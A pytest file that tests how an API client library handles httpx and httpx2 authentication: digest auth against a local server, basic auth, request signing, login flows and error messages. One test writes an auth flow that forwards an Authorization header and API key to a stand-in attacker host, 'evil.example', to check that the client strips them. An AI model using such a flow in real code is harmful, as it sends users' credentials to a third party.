"""Auths of httpx and httpx2, unchanged: digest against a server of RFC 7616, and flows of every shape."""

from __future__ import annotations

import hashlib
import importlib
import json
import re
from collections.abc import AsyncGenerator, AsyncIterator, Callable, Generator, Iterator
from typing import Annotated, Any

import httpx
import httpx2
import pytest

from conftest import Api, Colour, EngineName, Reply
from servers import RawRequest, RawServer, http
from stubwire import ApiClient, AuthenticationError, Body, ConfigurationError, ProtocolError, Retry, Stream, get, post

MakeApi = Callable[..., Api]


class Client(ApiClient):
    base_url = "https://api.example"

    @get("/x")
    def find(self, *, q: str | None = None) -> dict[str, str]:
        raise NotImplementedError

    @post("/x")
    def send(self, item: dict[str, str]) -> dict[str, str]:
        raise NotImplementedError

    @post("/x")
    def put(self, content: Annotated[Iterator[bytes], Body()]) -> dict[str, str]:
        raise NotImplementedError

    @post("/x")
    def aput(self, content: Annotated[AsyncIterator[bytes], Body()]) -> dict[str, str]:
        raise NotImplementedError

    @get("/x")
    def read(self) -> Stream[bytes]:
        raise NotImplementedError


# ---- digest, on real sockets


class Digest:
    """A server of RFC 7616: it checks every answer to its challenge, against the target as it arrived."""

    def __init__(self, algorithm: str) -> None:
        self.algorithm = algorithm
        self.problems: list[str] = []
        self.counts: list[str] = []

    def __call__(self, request: RawRequest) -> bytes:
        value = request.header("Authorization")
        if value is None:
            challenge = f'Digest realm="api", qop="auth", algorithm={self.algorithm}, nonce="n0nce", opaque="0paque"'
            return http("{}", 401, {"WWW-Authenticate": challenge})
        found = {name: quoted or plain for name, quoted, plain in re.findall(r'(\w+)=(?:"([^"]*)"|([^,\s]+))', value)}
        if found["response"] != self._answer(request, found) or found["uri"] != request.target:
            self.problems.append(value)
        self.counts.append(found["nc"])
        return http(json.dumps({"user": found["username"]}))

    def _answer(self, request: RawRequest, found: dict[str, str]) -> str:
        kind = {"MD5": hashlib.md5, "SHA-256": hashlib.sha256}[self.algorithm]

        def digest(*parts: str) -> str:
            return kind(":".join(parts).encode()).hexdigest()

        first, second = digest("me", "api", "s3cr3t"), digest(request.method, request.target)
        return digest(first, "n0nce", found["nc"], found["cnonce"], "auth", second)


def stock(engine: str, name: str, *args: Any) -> Any:
    return getattr(importlib.import_module(engine), name)(*args)


@pytest.mark.parametrize("algorithm", ["MD5", "SHA-256"])
def test_digest_of_httpx(engine: EngineName, colour: Colour, algorithm: str) -> None:
    """One challenge, and then an answer with each request, whose count goes up; a body is sent again."""
    answer = Digest(algorithm)
    auth = stock(engine, "DigestAuth", "me", "s3cr3t")
    with RawServer(answer) as server, Client(base_url=server.url, engine=engine, auth=auth) as client:
        first = colour.response(client.find, q="a b/ü'|[]")
        assert colour.run(client.send, {"a": "b"}) == {"user": "me"}
        assert answer.problems == []
        assert answer.counts == ["00000001", "00000002"]
        assert [request.method for request in server.requests] == ["GET", "GET", "POST"]
        assert server.requests[2].body == b'{"a":"b"}'
        assert len(first.attempts) == 1
        assert "Authorization" not in first.request.headers
        assert "s3cr3t" not in repr(client)


@pytest.mark.parametrize(("library", "other"), [("httpx", "httpx2"), ("httpx2", "httpx")])
def test_the_auth_of_one_library_serves_the_engine_of_the_other(library: Any, other: Any, colour: Colour) -> None:
    answer = Digest("SHA-256")
    auth = stock(library, "DigestAuth", "me", "s3cr3t")
    with RawServer(answer) as server, Client(base_url=server.url, engine=other, auth=auth) as client:
        assert colour.run(client.find) == {"user": "me"}
        assert answer.problems == []


def test_a_wrong_password_is_a_401_after_one_challenge(engine: EngineName, colour: Colour) -> None:
    refused = http("{}", 401, {"WWW-Authenticate": 'Digest realm="api", nonce="n0nce", qop="auth"'})
    auth = stock(engine, "DigestAuth", "me", "wr0ng")
    with RawServer(refused) as server:
        client = Client(base_url=server.url, engine=engine, auth=auth, retry=Retry(max_retries=3))
        with client, pytest.raises(AuthenticationError) as caught:
            colour.run(client.find)
        assert len(server.requests) == 2
        assert "wr0ng" not in str(caught.value)


@pytest.mark.parametrize(
    "challenge",
    [
        'Digest nonce="n"',
        'Digest realm="r", nonce="n", qop="auth-int"',
        'Digest realm="r", nonce="n", qop="other"',
        'Digest realm="r", nonce="n", algorithm=ROT13',
        "Digest realm",
    ],
)
def test_a_challenge_that_it_cannot_answer(api: MakeApi, colour: Colour, engine: str, challenge: str) -> None:
    """Whatever a server sends, nothing of the library's leaves the call; the auth is none the worse afterwards."""
    auth = stock(engine, "DigestAuth", "me", "s3cr3t")
    client = Client(transport=api(Reply(401, headers={"WWW-Authenticate": challenge})).transport, auth=auth)
    for _ in range(2):
        with pytest.raises(ProtocolError, match=r"got no credentials: DigestAuth failed with \w+$"):
            colour.run(client.find)


def test_a_realm_that_cannot_stand_in_a_header(engine: EngineName, colour: Colour) -> None:
    """It is the server's doing, so it is no error of an argument."""
    refused = http("{}", 401, {"WWW-Authenticate": 'Digest realm="\xfc", nonce="n"'})
    auth = stock(engine, "DigestAuth", "me", "s3cr3t")
    with RawServer(refused) as server, Client(base_url=server.url, engine=engine, auth=auth) as client:
        with pytest.raises(ProtocolError) as caught:
            colour.run(client.find)
        assert str(caught.value).endswith("got no credentials: DigestAuth set a header that cannot be sent")


def test_basic_of_httpx_as_named_or_by_verb(api: MakeApi, colour: Colour, engine: str) -> None:
    server = api(Reply(json={}))
    auth = stock(engine, "BasicAuth", "me", "pw")
    colour.run(Client(transport=server.transport, auth=auth).find)
    colour.run(Client(transport=server.transport).find.with_options(auth=auth))
    assert [request.headers["Authorization"] for request in server.requests] == ["Basic bWU6cHc="] * 2
    assert "Authorization: [redacted]" in Client(transport=server.transport, auth=auth).find.request().curl()


# ---- flows of others


class Signing(httpx.Auth):
    """As signatures of AWS: over the method, the target, the headers and the body."""

    requires_request_body = True

    def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
        digest = hashlib.sha256(request.content).hexdigest()
        target = request.url.raw_path.decode()
        request.headers["X-Content-Sha256"] = digest
        request.headers["X-Signature"] = f"{request.method} {request.headers['host']} {target} {digest[:8]}"
        yield request


@pytest.mark.parametrize("name", ["send", "put", "aput"])
def test_a_signature_over_what_is_sent(engine: EngineName, colour: Colour, name: str) -> None:
    """A streamed body is read for it, in either colour."""

    async def asynchronous() -> AsyncIterator[bytes]:
        yield b'{"a":'
        yield b'"b"}'

    bodies: dict[str, Any] = {"send": {"a": "b"}, "put": iter([b'{"a":', b'"b"}']), "aput": asynchronous()}
    with RawServer(http("{}")) as server, Client(base_url=server.url, engine=engine, auth=Signing()) as client:
        if name == "aput" and colour.name == "sync":
            with pytest.raises(Exception, match="its body is asynchronous, which a synchronous call cannot read"):
                colour.run(client.aput, bodies[name])
            return
        colour.run(getattr(client, name), bodies[name])
        digest = hashlib.sha256(b'{"a":"b"}').hexdigest()
        request = server.requests[0]
        assert request.header("X-Content-Sha256") == digest
        assert request.header("X-Signature") == f"POST 127.0.0.1:{server.port} /x {digest[:8]}"
        assert request.body == b'{"a":"b"}'
        assert request.header("Content-Length") == "9"


class TwoStep(httpx.Auth):
    """Logs in by a request of its own, and reads what came back."""

    requires_response_body = True

    def __init__(self, login: str) -> None:
        self._login = login

    def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
        response = yield httpx.Request("POST", self._login, content=b"user=me", headers={"X-Login": "1"})
        request.headers["Authorization"] = f"Session {response.json()['session']}"
        response = yield request
        assert response.request is request
        assert response.status_code == 200


def test_a_flow_may_send_requests_of_its_own(api: MakeApi, colour: Colour) -> None:
    """They are one attempt; a compressed answer is read as it was decoded."""
    server = api(Reply(json={"session": "s1"}, headers={"X-Any": "1"}), Reply(json={"a": "b"}))
    response = colour.response(Client(transport=server.transport, auth=TwoStep("https://api.example/login")).find)
    assert [(request.method, str(request.url), request.content) for request in server.requests] == [
        ("POST", "https://api.example/login", b"user=me"),
        ("GET", "https://api.example/x", b""),
    ]
    assert server.requests[0].headers["X-Login"] == "1"
    assert "X-Login" not in server.requests[1].headers
    assert server.requests[1].headers["Authorization"] == "Session s1"
    assert response.data == {"a": "b"}
    assert len(response.attempts) == 1


def test_to_another_origin_it_takes_no_secrets(api: MakeApi, colour: Colour) -> None:
    class Elsewhere(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            request.headers["Authorization"] = "s3cr3t"
            yield httpx.Request("GET", "https://evil.example/", headers=request.headers)

    server = api(Reply(json={}))
    colour.run(Client(transport=server.transport, auth=Elsewhere(), headers={"X-Api-Key": "k3y"}).find)
    assert server.request.url.host == "evil.example"
    assert "s3cr3t" not in str(server.request.headers.raw)
    assert "k3y" not in str(server.request.headers.raw)


def test_each_colour_runs_its_own_flow(api: MakeApi, colour: Colour) -> None:
    """As those that take a lock or speak to a server do; either is ended with its call."""
    ended: list[str] = []

    class Both(httpx.Auth):
        def sync_auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            request.headers["X-Flow"] = "sync"
            try:
                yield request
            finally:
                ended.append("sync")

        async def async_auth_flow(self, request: httpx.Request) -> AsyncGenerator[httpx.Request, httpx.Response]:
            request.headers["X-Flow"] = "async"
            try:
                yield request
            finally:
                ended.append("async")

    server = api(Reply(json={}), Reply(500))
    client = Client(transport=server.transport, auth=Both(), retry=None)
    colour.run(client.find)
    flow = "sync" if colour.name == "sync" else "async"
    assert server.request.headers["X-Flow"] == flow
    assert ended == [flow]


def test_a_flow_may_change_the_url(api: MakeApi, colour: Colour) -> None:
    class Key(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            request.url = request.url.copy_merge_params({"key": "k 1"})
            yield request

    server = api(Reply(json={}))
    colour.run(Client(transport=server.transport, auth=Key()).find, q="a/b")
    assert str(server.request.url) == "https://api.example/x?q=a%2Fb&key=k+1"


def test_what_a_flow_raises_is_its_own_and_says_so(api: MakeApi, colour: Colour) -> None:
    class Broken(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            yield request
            raise LookupError("mine")

    class Failing(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            if request.method:
                raise httpx.ConnectError("no ticket")
            yield request

    class Silent(httpx.Auth):
        def sync_auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            yield from ()

        async def async_auth_flow(self, request: httpx.Request) -> AsyncGenerator[httpx.Request, httpx.Response]:
            for nothing in list[httpx.Request]():
                yield nothing

    transport = api(Reply(json={})).transport
    with pytest.raises(LookupError, match="mine") as caught:
        colour.run(Client(transport=transport, auth=Broken()).find)
    assert caught.value.__notes__ == ["raised in the auth 'Broken'"]
    with pytest.raises(ProtocolError, match="got no credentials: Failing failed with ConnectError"):
        colour.run(Client(transport=transport, auth=Failing()).find)
    with pytest.raises(TypeError, match="the auth 'Silent' yielded no request"):
        colour.run(Client(transport=transport, auth=Silent()).find)


def test_a_stream_goes_through_a_flow(api: MakeApi) -> None:
    """Its body is left to whoever reads the stream."""
    server = api(Reply(json={"session": "s1"}), Reply(content=b"abc"))

    class Watching(httpx.Auth):
        def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response, None]:
            response = yield request
            assert response.content == b""

    with Client(transport=server.transport, auth=Watching()).read() as stream:
        assert b"".join(stream) == b'{"session": "s1"}'


@pytest.mark.parametrize("wrong", [httpx.DigestAuth, httpx2.Auth])
def test_a_class_is_no_auth(wrong: Any) -> None:
    with pytest.raises(ConfigurationError) as caught:
        Client(auth=wrong)
    assert str(caught.value) == "Client: auth must be an Auth such as BearerAuth(token), not type"


def test_an_auth_of_no_library_that_we_know(api: MakeApi) -> None:
    class Mine:
        def sync_auth_flow(self, request: Any) -> Any:
            yield request

        def async_auth_flow(self, request: Any) -> Any:
            yield request

    client = Client(transport=api(Reply(json={})).transport, auth=Mine())
    with pytest.raises(ConfigurationError) as caught:
        client.find()
    assert str(caught.value) == "auth must be an Auth such as BearerAuth(token), or one of httpx, not Mine"
